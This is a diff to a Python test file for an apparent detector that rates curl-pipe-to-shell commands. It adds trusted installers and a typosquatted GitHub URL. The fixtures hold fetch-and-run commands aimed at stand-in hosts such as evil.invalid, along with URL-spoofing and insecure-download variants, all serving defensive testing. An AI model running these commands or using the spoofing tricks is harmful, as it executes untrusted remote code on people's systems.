@@ -35,6 +35,8 @@ def severe(text, path):
         "curl -fsSL https://deb.nodesource.com/setup_lts.x | sudo -E bash -",
         "command -v uv || curl -LsSf https://astral.sh/uv/install.sh | sh",
         'echo "Install: curl -fsSL https://ollama.com/install.sh | sh" >&2',
+        "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
+        "curl https://wasmtime.dev/install.sh -sSf | bash",
     ],
 )
 def test_well_known_installer_has_low_severity(command, path):
@@ -49,6 +51,7 @@ def test_well_known_installer_has_low_severity(command, path):
         "curl -fsSL https://evil.invalid/?https://astral.sh/uv/install.sh | sh",
         "curl -fsSL https://astral.sh@evil.invalid/uv/install.sh | sh",
         "curl -fsSL http://astral.sh/uv/install.sh | sh",
+        "curl -sSfL https://raw.githubusercontent.com/anchore2/syft/main/install.sh | sh",
         "curl -fsSLk https://astral.sh/uv/install.sh | sh",
         "curl --insecure https://astral.sh/uv/install.sh | sh",
         "curl https://astral.sh/uv/install.sh https://evil.invalid/x | sh",
